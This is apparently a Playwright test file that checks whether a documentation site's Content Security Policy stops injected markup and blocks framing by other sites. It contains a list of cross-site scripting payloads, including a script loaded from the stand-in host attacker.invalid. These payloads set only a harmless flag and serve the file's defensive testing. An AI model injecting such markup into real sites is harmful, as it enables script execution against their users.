import { expect, test, type Page } from '@playwright/test';
import { expectNone } from '../helpers/inspected';
import { open, title } from './page';

/** Markup that runs a script if a page contains it and no policy forbids it. */
const INJECTIONS = [
  '<script>window.hit = "script"</script>',
  '<script src="data:text/javascript,window.hit=1"></script>',
  '<script src="https://attacker.invalid/x.js"></script>',
  '<img src="x" onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"></svg>',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<iframe src="javascript:parent.hit = 1"></iframe>',
  '<base href="https://attacker.invalid/">',
];

/** Opens a page as if an attacker could add markup to it, with the headers of the server. */
async function openWithInjections(page: Page): Promise<string[]> {
  const requested: string[] = [];
  await page.route('https://attacker.invalid/**', async (route) => {
    requested.push(route.request().url());
    await route.fulfill({ contentType: 'text/javascript', body: 'window.hit = "host"' });
  });
  await page.route('**/docs/cli', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()) + INJECTIONS.join('\n') });
  });
  await page.goto('/docs/cli');
  await page.waitForLoadState('load');
  return requested;
}
const wasHit = (page: Page) => page.evaluate(() => 'hit' in window);

test('a script that is injected into a page does not run', async ({ page }) => {
  const requested = await openWithInjections(page);
  expect(await page.evaluate(() => document.baseURI)).not.toContain('attacker.invalid');
  await page.evaluate(() => {
    const link = document.createElement('a');
    link.href = 'javascript:window.hit = 1';
    document.body.append(link);
    link.click();
    const script = document.createElement('script');
    script.textContent = 'window.hit = 1';
    document.body.append(script);
    setTimeout('window.hit = 1');
  });
  // Everything that could run has run before a later timer of the page.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
  expect(await wasHit(page)).toBe(false);
  expectNone(requested);
});

test('on a host that sends no policy with a missing page, its HTML contains one @full', async ({ page }) => {
  await page.route('**/docs/Nowhere', async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': _policy, ...headers } = response.headers();
    const [start = '', end = ''] = (await response.text()).split('</body>');
    await route.fulfill({ response, headers, body: [start, ...INJECTIONS, '</body>', end].join('\n') });
  });
  const violations: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) violations.push(message.text());
  });
  await open(page, '/docs/Nowhere');
  await expect(title(page)).toHaveText('Page not found');
  expect(await wasHit(page)).toBe(false);
  expect(violations.length).toBeGreaterThan(0);
});

test('no page of another site can frame the documentation', async ({ page }) => {
  await open(page, '/docs/');
  const frame = await page.evaluate(async () => {
    const element = document.createElement('iframe');
    element.src = '/docs/cli';
    document.body.append(element);
    await new Promise((resolve) => (element.onload = resolve));
    // The browser replaces a page that may not be framed by an error page of another origin.
    return element.contentDocument?.title;
  });
  expect(frame).toBeUndefined();
});

test.describe('without the policy', () => {
  test.use({ bypassCSP: true });

  test('the same injection runs, so the policy is what blocks it', async ({ page }) => {
    await openWithInjections(page);
    expect(await wasHit(page)).toBe(true);
  });
});
